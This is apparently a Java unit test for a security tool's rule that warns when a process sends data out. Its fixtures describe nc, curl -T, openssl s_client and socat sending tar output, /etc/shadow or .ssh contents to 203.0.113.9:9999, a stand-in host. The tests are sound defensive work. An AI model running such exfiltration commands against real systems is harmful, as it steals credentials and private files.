package io.totem.policy.warning;

import static io.totem.policy.testing.SampleBuilder.program;
import static org.assertj.core.api.Assertions.assertThat;

import io.totem.policy.facts.Behaviour;
import io.totem.policy.facts.Relations;
import io.totem.policy.facts.Relations.Exfiltration;
import io.totem.policy.port.Severity;
import io.totem.policy.testing.SampleBuilder;
import io.totem.policy.testing.Scene;
import io.totem.procfs.Connection;
import java.net.InetAddress;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class SendsDataRuleTest {

    private static final Connection OUT = new Connection(InetAddress.ofLiteral("203.0.113.9"), 9999, 40_000, false);

    @Test
    void an_archive_on_its_way_to_another_machine_is_a_caution() {
        assertThat(told(program("/usr/bin/nc.openbsd").root(), new Exfiltration("tar", Optional.empty(), OUT)))
                .hasValueSatisfying(warning -> {
                    assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
                    assertThat(warning.title().en()).isEqualTo("sends what tar gives it to 203.0.113.9:9999");
                    assertThat(warning.why().ko()).contains("tar에서 나온 것");
                });
    }

    @Test
    void what_is_encrypted_on_the_way_is_not_called_open() {
        Exfiltration dump = new Exfiltration("tar", Optional.empty(), OUT);
        for (SampleBuilder sender : List.of(
                program("/usr/bin/openssl").commandLine("openssl", "s_client", "-connect", "203.0.113.9:9999"),
                program("/usr/bin/curl").commandLine("curl", "-T", "-", "https://203.0.113.9:9999/"),
                program("/usr/bin/socat1").commandLine("socat", "-", "OPENSSL:203.0.113.9:9999"))) {
            assertThat(told(sender, dump))
                    .hasValueSatisfying(
                            warning -> assertThat(warning.why().en()).contains("meant to be encrypted"));
        }
        assertThat(told(program("/usr/bin/curl").commandLine("curl", "-T", "-", "http://203.0.113.9:9999/"), dump))
                .hasValueSatisfying(warning ->
                        assertThat(warning.why().en()).contains("Nothing in its arguments asks for encryption"));
    }

    @Test
    void keys_and_passwords_on_their_way_are_danger_unless_they_are_a_person_s_own() {
        Exfiltration shadow = new Exfiltration("/etc/shadow", Optional.of("/etc/shadow"), OUT);
        assertThat(told(program("/usr/bin/nc.openbsd").root(), shadow)).hasValueSatisfying(warning -> {
            assertThat(warning.severity()).isEqualTo(Severity.DANGER);
            assertThat(warning.why().en()).contains("is or holds /etc/shadow");
        });
        assertThat(told(program("/usr/bin/nc.openbsd"), new Exfiltration("tar", Optional.of(".ssh"), OUT)))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
    }

    private static Optional<Warning> told(SampleBuilder process, Exfiltration exfiltration) {
        return Scene.of(process)
                .behaviour(Behaviour.NONE.with(Relations.NONE.sending(exfiltration)))
                .warning(WarningCode.SENDS_DATA);
    }
}
